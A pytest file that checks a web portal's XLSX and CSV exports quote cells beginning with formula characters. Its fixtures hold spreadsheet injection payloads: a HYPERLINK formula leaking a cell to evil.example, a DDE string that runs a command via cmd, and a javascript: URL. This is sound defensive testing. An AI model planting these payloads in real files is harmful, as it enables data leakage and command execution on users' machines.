"""Formula injection: every spreadsheet and CSV the hub writes goes through hub.spreadsheets."""

from __future__ import annotations

import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from hub.extensions import db
from hub.spreadsheets import csv_row, safe_text
from tests.web_support import make_item, sign_in_factory

EVIL_TITLE = '=HYPERLINK("http://evil.example/?leak="&A2,"klik")'
EVIL_SUMMARY = "=cmd|' /C calc'!A0"


@pytest.fixture
def sign_in(request, app, client):
    return sign_in_factory(request, app, client)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_starter_is_quoted(start):
    assert safe_text(start + "1+1") == "'" + start + "1+1"
    assert safe_text("Pekan " + start) == "Pekan " + start
    assert csv_row([3, 2.5, None, start + "x"]) == [3, 2.5, "", "'" + start + "x"]


def _text_cells(data: bytes):
    for ws in load_workbook(io.BytesIO(data)).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    yield cell


def test_public_dip_export_writes_titles_as_text_not_formulas(app, client, make_user):
    from hub_website.models import DipEntry

    creator = make_user("citra", roles=["pembuat_konten"])
    item = make_item(creator, "Dokumen", channels=("ppid",), status="published")
    db.session.add(
        DipEntry(
            item_id=item.id,
            title=EVIL_TITLE,
            summary=EVIL_SUMMARY,
            info_class="berkala",
            unit="@SUM(1+1)",
            year=2025,
            site_url="javascript:alert(1)",
        )
    )
    db.session.commit()
    response = client.get("/ppid/dip.xlsx")
    assert response.status_code == 200
    cells = list(_text_cells(response.data))
    assert cells and all(c.data_type == "s" for c in cells)
    values = [c.value for c in cells]
    assert "'" + EVIL_TITLE in values and "'" + EVIL_SUMMARY in values and "'@SUM(1+1)" in values
    sheet = load_workbook(io.BytesIO(response.data)).active
    assert sheet.cell(2, 10).hyperlink is None  # only http(s) links become hyperlinks


def test_content_plan_xlsx_writes_item_titles_as_text(client, make_user, sign_in):
    creator = make_user("citra", roles=["pembuat_konten"])
    make_item(creator, EVIL_TITLE, channels=("videotron", "website"), event_date=dt.date(2026, 11, 28))
    make_item(creator, "+62 812 0000", channels=("website",), event_date=dt.date(2026, 11, 20))
    sign_in(make_user("kabid", roles=["kepala_bidang"]))
    response = client.get("/reports/content_plan.xlsx?start=2026-10-01&end=2026-12-31")
    assert response.status_code == 200
    cells = list(_text_cells(response.data))
    assert all(c.data_type == "s" for c in cells)
    values = [c.value for c in cells]
    assert "'" + EVIL_TITLE in values and "'+62 812 0000" in values
    assert not any(v.startswith(("=", "+", "-", "@")) for v in values)
